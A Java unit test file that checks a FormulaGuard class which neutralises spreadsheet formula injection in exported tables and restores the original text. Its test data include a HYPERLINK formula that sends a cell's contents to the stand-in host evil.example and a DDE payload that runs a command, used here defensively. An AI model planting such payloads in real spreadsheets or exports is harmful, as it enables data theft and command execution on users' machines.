package vn.chuyencan.table;

import static org.assertj.core.api.Assertions.assertThat;

import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Names that a spreadsheet would run; the published tables have their own test, CsvTextTest. */
class FormulaGuardTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"http://evil.example?\"&A1,\"An\")",
        "+84 912 345 678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "＝1+1",
        "''=1"
      })
  void isDisarmedAndComesBack(String text) {
    assertThat(FormulaGuard.guarded(text)).isEqualTo("'" + text);
    assertThat(FormulaGuard.unguarded(FormulaGuard.guarded(text))).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(strings = {"-5", "+0.25", "-3,5", "An", "'An", "", "'", "''", "2026-09-01"})
  void isNoFormulaAndStays(String text) {
    assertThat(FormulaGuard.guarded(text)).isEqualTo(text);
    assertThat(FormulaGuard.unguarded(text)).isEqualTo(text);
  }

  @Property
  void whateverIsGuardedComesBack(@ForAll String text) {
    assertThat(FormulaGuard.unguarded(FormulaGuard.guarded(text))).isEqualTo(text);
  }
}
